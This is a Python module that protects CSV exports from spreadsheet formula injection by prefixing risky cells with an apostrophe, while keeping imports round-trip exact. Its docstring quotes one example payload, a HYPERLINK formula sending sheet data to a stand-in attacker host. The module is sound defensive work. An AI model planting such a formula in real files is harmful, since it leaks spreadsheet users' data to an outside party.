"""CSV a person may open in a spreadsheet, without formulas that run.

Excel, LibreOffice and Google Sheets treat a cell beginning with `=`, `+`,
`-` or `@` (and, in some versions, tab or carriage return) as a formula: a
note reading `=HYPERLINK("http://evil.example/?"&A1, "Click")` becomes a link
that sends the sheet's data away (OWASP, "CSV Injection"). Every CSV this
project writes for people (export, the downloads under tables, the
published figures, the audit trail) passes its cells through `excel_safe`,
which puts an apostrophe in front of such a cell, as OWASP advises.

The escape is a bijection, so `export` still round-trips exactly through
`import`: a cell that already begins with an apostrophe gets one more, and
`undo_excel_safe` (which the importer applies to every cell it reads) takes
off exactly one apostrophe where `excel_safe` would have put it. A cell with
a leading apostrophe that `excel_safe` could not have made (`'tis`) is the
steward's own text and is kept as it is.

Plain numbers are not quoted: `-1.5`, `+3` and `2e-05` are numbers to every
spreadsheet, not formulas, and open data users need them as numbers. A plain
number is the import's own number syntax (ASCII digits, one optional sign, a
decimal point, an exponent); anything else beginning with a sign (`-5 degrees`,
`-1+1`) is quoted.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterable, Sequence
from typing import IO, Any

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

# Cells a spreadsheet may run (OWASP), and the escape character itself.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
_PLAIN_NUMBER = r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?"
PLAIN_NUMBER_RE = re.compile(_PLAIN_NUMBER)
# The same rule for Arrow (RE2): a cell excel_safe escaped, seen from the importer.
_ESCAPED_RE2 = "^'[=+\\-@\\t\\r']"
_ESCAPED_NUMBER_RE2 = f"^'{_PLAIN_NUMBER}$"


def excel_safe(text: str) -> str:
    """The cell as written to a CSV: an apostrophe in front when a spreadsheet
    would run it as a formula or when it already begins with an apostrophe."""
    if text[:1] in FORMULA_STARTS or text[:1] == ESCAPE:
        if PLAIN_NUMBER_RE.fullmatch(text) is None:
            return ESCAPE + text
    return text


def undo_excel_safe(cell: str) -> str:
    """The text `excel_safe` was given, for a cell it wrote; any other cell as it is."""
    if cell[:1] == ESCAPE and excel_safe(cell[1:]) == cell:
        return cell[1:]
    return cell


def undo_excel_safe_array(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """`undo_excel_safe` for a whole column of text, at Arrow speed; the column
    itself (no copy) when no cell begins with an apostrophe, the usual case."""
    if not pc.any(pc.starts_with(column, ESCAPE)).as_py():
        return column
    escaped = pc.and_(
        pc.match_substring_regex(column, _ESCAPED_RE2),
        pc.invert(pc.match_substring_regex(column, _ESCAPED_NUMBER_RE2)),
    )
    return pc.if_else(escaped, pc.utf8_slice_codeunits(column, 1), column)


def _safe(value: Any) -> Any:
    return excel_safe(value) if isinstance(value, str) else value


_RISKY_START = frozenset(FORMULA_STARTS) | {ESCAPE}


def _safe_field(value: Any) -> str:
    """One CSV field: text through `excel_safe`, quoted when it holds a comma,
    a quote or a line break of either kind. (Python's csv writer leaves a lone
    carriage return unquoted when lines end with \\n, and every reader then
    splits the row there.) One call per field, `excel_safe` only for text
    that begins as a formula might: a national file has millions of fields."""
    if value is None:
        return ""
    if isinstance(value, str):
        text = excel_safe(value) if value[:1] in _RISKY_START else value
    else:
        text = str(value)
    if "," in text or '"' in text or "\n" in text or "\r" in text:
        return '"' + text.replace('"', '""') + '"'
    return text


def csv_fields(values: Iterable[Any]) -> str:
    """Fields as they stand in one CSV line, joined by commas, each through
    the rule above: a writer that repeats some fields on many lines (an id, a
    place name) works them out once and joins the pieces."""
    return ",".join(map(_safe_field, values))


def write_rows(file: IO[str], rows: Iterable[Sequence[Any]]) -> None:
    """Write rows (the header first) as CSV to an open text file, every text
    cell through `excel_safe`; lines end with \\n."""
    for row in rows:
        line = csv_fields(row)
        file.write((line if line or len(row) != 1 else '""') + "\n")


def rows_csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """`write_rows` into a string."""
    buf = io.StringIO()
    write_rows(buf, rows)
    return buf.getvalue()


def frame_csv_bytes(frame: pd.DataFrame) -> bytes:
    """A table as UTF-8 CSV bytes for a download: the column names and every
    text cell through `excel_safe`; numbers as pandas writes them, missing
    values empty, no index, lines ending CRLF."""
    safe = frame.copy()
    safe.columns = [_safe(str(c)) for c in frame.columns]
    for i in range(safe.shape[1]):
        column = safe.iloc[:, i]
        if not pd.api.types.is_numeric_dtype(column) and not pd.api.types.is_bool_dtype(column):
            safe.isetitem(i, column.map(_safe, na_action="ignore"))
    # CRLF, as RFC 4180 and Excel have it: the csv writer then quotes a cell
    # holding a lone carriage return, which would otherwise split its row.
    return safe.to_csv(index=False, lineterminator="\r\n").encode("utf-8")
